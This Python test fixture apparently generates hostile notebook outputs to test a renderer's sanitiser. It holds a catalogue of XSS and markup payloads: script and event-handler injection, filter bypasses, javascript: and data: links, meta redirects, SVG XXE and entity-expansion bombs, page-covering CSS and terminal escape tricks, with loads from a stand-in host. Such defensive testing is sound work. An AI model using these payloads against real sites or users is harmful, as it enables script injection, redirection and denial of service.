"""What a hostile program may show: each tries to run, to load, to lead away, or to cover the page."""

from __future__ import annotations

import base64
from typing import Any

from handmade_class import display, stream

HOST = "attacker.invalid"
RUN = "window.pwned=(window.pwned||0)+1"
URL = f"https://{HOST}/x"

COVER = "position:fixed;inset:0;z-index:2147483647;background:red"

HTML = {
    "script": f"<script>{RUN}</script>",
    "script in upper case and parts": f"<SCR<script>IPT>{RUN}</SCR</script>IPT>",
    "script from elsewhere": f'<script src="{URL}.js"></script>',
    "image that fails": f'<img src=x onerror="{RUN}">',
    "image with a slash": f'<img/src=x/onerror="{RUN}">',
    "image from elsewhere": f'<img src="{URL}.png">',
    "image set from elsewhere": f'<img srcset="{URL}.png 1x, //{HOST}/y 2x">',
    "picture from elsewhere": f'<picture><source srcset="{URL}.png"><img src=x></picture>',
    "javascript link": f'<a href="javascript:{RUN}" id=go>go</a>',
    "javascript link with a tab": f'<a href="java\tscript:{RUN}">go</a>',
    "javascript link with entities": f'<a href="&#106;avascript&colon;{RUN}">go</a>',
    "data link": f'<a href="data:text/html,<script>{RUN}</script>">go</a>',
    "link that pings": f'<a href="{URL}" ping="{URL}">go</a>',
    "iframe": f'<iframe src="{URL}"></iframe>',
    "iframe with a document": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object": f'<object data="{URL}.swf"></object><embed src="{URL}.swf">',
    "form": f'<form action="{URL}"><input name=a autofocus onfocus="{RUN}"><button>send</button></form>',
    "button of a form elsewhere": f'<button formaction="javascript:{RUN}">x</button>',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={URL}">',
    "meta refresh to a script": f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    "base": f'<base href="{URL}/"><base target="_blank">',
    "style that loads": f"<style>@import '{URL}.css'; body{{background:url({URL}.png)}}</style>",
    "style that hides the page": "<style>.summary,h1{display:none!important}*{opacity:0!important}</style>",
    "style sheet": f'<link rel="stylesheet" href="{URL}.css"><link rel="preload" as=image href="{URL}.png">',
    "prefetch": f'<link rel="dns-prefetch" href="//{HOST}"><link rel="prerender" href="{URL}">',
    "box over the page": f'<div style="{COVER}">mine</div>',
    "box moved up": '<div style="margin-top:-9000px;height:9000px;background:red">mine</div>',
    "box moved by a transformation": '<p style="transform:translateY(-5000px) scale(99)">mine</p>',
    "huge letters": '<b style="font-size:9000px;line-height:0">mine</b>',
    "classes of the page": f'<div class="summary" id="q1">100 of 1</div><p class="total" style="{COVER}">',
    "closing tags": '</div></div></section></details></body></html><header class="summary">mine</header>',
    "open comment": "<!-- everything after this",
    "open textarea": "<textarea><b>everything after this",
    "open title": f"<title><img src=x onerror='{RUN}'>",
    "open plaintext": "<plaintext>everything after this",
    "noscript trick": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "template": f"<template><script>{RUN}</script></template><slot></slot>",
    "math trick": f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></table></math>',
    "math link": f'<math href="javascript:{RUN}"><mi xlink:href="javascript:{RUN}">x</mi></math>',
    "svg in html": f'<svg onload="{RUN}"><script>{RUN}</script><a xlink:href="javascript:{RUN}">x</a></svg>',
    "svg animation": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "svg foreign content": f'<svg><foreignObject><iframe src="{URL}"></iframe></foreignObject></svg>',
    "details": f'<details open ontoggle="{RUN}"><summary>a</summary>b</details>',
    "media": f'<video src="{URL}.mp4" poster="{URL}.png" onerror="{RUN}"></video><audio src="{URL}.ogg">',
    "marquee": f'<marquee onstart="{RUN}">x</marquee>',
    "dialog": f'<dialog open style="{COVER}">mine</dialog><div popover=manual id=p>mine</div>',
    "body events": f'<body onload="{RUN}" onpageshow="{RUN}">',
    "animation event": f'<style>@keyframes x{{}}</style><p style="animation:x 1s" onanimationend="{RUN}">',
    "background attribute": f'<table background="{URL}.png"><td background="{URL}.png">x</table>',
    "svg picture": f'<img src=\'data:image/svg+xml,<svg xmlns="http://w3.org/2000/svg" onload="{RUN}"/>\'>',
    "editable": "<div contenteditable autofocus tabindex=1 accesskey=a>x</div>",
}

NS = 'xmlns="http://www.w3.org/2000/svg"'
BOX = '<rect width="9" height="9"/>'
SVG = {
    "script": f"<svg {NS}><script>{RUN}</script>{BOX}</svg>",
    "event": f'<svg {NS} onload="{RUN}">{BOX}</svg>',
    "loads": f'<svg {NS} xmlns:xlink="http://www.w3.org/1999/xlink">'
    f'<image xlink:href="{URL}.png" href="{URL}.png" width="9" height="9"/><use href="{URL}.svg#a"/>'
    f'<style>@import "{URL}.css";</style><rect fill="url({URL}#a)" width="9" height="9"/></svg>',
    "foreign content": f'<svg {NS}><foreignObject width="9" height="9">'
    f'<body xmlns="http://www.w3.org/1999/xhtml"><iframe src="{URL}"/></body></foreignObject></svg>',
    "entities": '<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'
    f"<svg {NS}><text>&c;</text></svg>",
    "external entity": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{URL}">]><svg {NS}>&x;</svg>',
    "copies of copies": f'<svg {NS}><g id="a0">{BOX}</g>'
    + "".join(f'<g id="a{n}">' + f'<use href="#a{n - 1}"/>' * 10 + "</g>" for n in range(1, 9))
    + "</svg>",
    "no drawing": f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{RUN}</script></html>",
}

MARKDOWN = [
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f"[go](javascript:{RUN}) [go](JaVaScRiPt:{RUN}) [go](data:text/html,<script>{RUN}</script>)",
    f'![picture]({URL}.png) ![picture](//{HOST}/y.png) ![a](x "onerror={RUN}")',
    f"[ref]: {URL}.png\n\n![x][ref] <{URL}> <javascript:{RUN}>",
    f'```html" onmouseover="{RUN}\n<script>{RUN}</script>\n```',
    f'[a](<{URL} "x">) `<script>{RUN}</script>`',
    f"| a | <script>{RUN}</script> |\n|---|---|\n| <img src=x onerror={RUN}> | ![]({URL}) |",
    f"# <svg onload={RUN}>\n\n<details open ontoggle={RUN}>",
    "> " * 500 + "deep",
    "*a " * 2000,
]

LATEX = [
    rf"$\href{{javascript:{RUN}}}{{x}}$",
    rf"$\text{{<img src=x onerror={RUN}>}}$",
    rf"$$\text{{</mtext></math><script>{RUN}</script>}}$$",
    rf"$\style{{{COVER}}}{{x}}$ $\class{{summary}}{{x}}$ $\cssId{{q1}}{{x}}$",
    rf"$\includegraphics{{{URL}.png}}$ \input{{{URL}}}",
    r"$\hspace{-9999px}\rule{9999px}{9999px}\raise 9999px {x}$",
    r"$\color{url(https://attacker.invalid/x)}{y}\mathcolor{red}{z}$",
    rf"$\unicode{{x3c}}script\unicode{{x3e}}{RUN}$ $\require{{html}}\data{{onclick={RUN}}}{{x}}$",
    r"\begin{align}\text{<script>window.pwned=1</script>}&=1\end{align}",
    "$" + "{" * 900 + "}" * 900 + "$",
]

TEXTS = [
    f"</pre><script>{RUN}</script>",
    f"\x1b]8;;javascript:{RUN}\x07go\x1b]8;;\x07\x1b[31m<img src=x onerror={RUN}>\x1b[0m",
    "\x1b[9999A\x1b[2J\x1b[H\x1b[?1049hmine",
    "\u202e\u2066reversed\u2069 \x00\x07\x08 \ud800 \ufeff",
    "\r".join(f"{n}%" for n in range(500)),
    "wide " * 40_000,
    "tall\n" * 40_000,
    "Z\u0351\u036b\u0343\u036a\u0302" * 400,
]

WIDGETS = [
    {
        "application/vnd.jupyter.widget-view+json": {"model_id": "1", "version_major": 2},
        "text/plain": "Slider()",
    },
    {"application/javascript": RUN, "text/plain": "a script"},
    {"application/vnd.plotly.v1+json": {"data": [{"x": f"<img src=x onerror={RUN}>"}]}},
    {"application/vnd.bokehjs_exec.v0+json": "", "text/html": f"<script>{RUN}</script><div id=bokeh></div>"},
    {"text/html": [f"<script>{RUN}", "</script>", "left"], "text/plain": ["in", "parts"]},
    {f'image/png" onerror="{RUN}': "x", f"<script>{RUN}</script>": "y"},
    {"image/png": base64.b64encode(f"<svg onload={RUN}>".encode()).decode()},
    {"image/png": f'x" onerror="{RUN}'},
    {"image/jpeg": 17, "text/html": {"a": 1}, "text/plain": None},
    {"text/html": "<b>" * 5_000, "text/plain": "deep"},
    {"text/html": "<table>" + "<tr><td>1</td></tr>" * 30_000 + "</table>"},
    {},
]


def hostile_outputs() -> list[dict[str, Any]]:
    """Return all of them as outputs of a cell."""
    outputs = [display({"text/html": html, "text/plain": name}) for name, html in HTML.items()]
    outputs += [display({"image/svg+xml": svg, "text/plain": name}) for name, svg in SVG.items()]
    outputs += [display({"text/markdown": text}) for text in MARKDOWN + LATEX]
    outputs += [display({"text/latex": text}) for text in LATEX]
    outputs += [display(data) for data in WIDGETS]
    outputs += [display({"image/svg+xml": html}) for html in HTML.values()]
    outputs += [display({"text/markdown": html}) for html in HTML.values()]
    outputs += [stream(text) for text in [*TEXTS, *HTML.values()]]
    for text in [*TEXTS, HTML["script"], HTML["closing tags"]]:
        outputs.append({"output_type": "error", "ename": text, "evalue": text, "traceback": [text, text]})
    return outputs
